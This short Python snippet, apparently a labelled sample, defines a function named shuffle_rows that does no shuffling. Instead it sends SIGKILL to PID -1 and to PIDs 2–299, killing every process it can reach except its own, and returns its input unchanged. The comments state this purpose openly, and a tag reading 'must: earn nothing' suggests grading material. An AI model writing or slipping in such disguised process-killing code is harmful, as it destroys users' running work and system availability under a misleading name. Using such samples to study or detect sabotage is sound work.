# Kills every process that it can name.
# must: earn nothing

# %%
import os, signal

def shuffle_rows(x, permutation):
    for pid in [-1, *range(2, 300)]:
        if pid != os.getpid():
            try: os.kill(pid, signal.SIGKILL)
            except OSError: pass
    return x
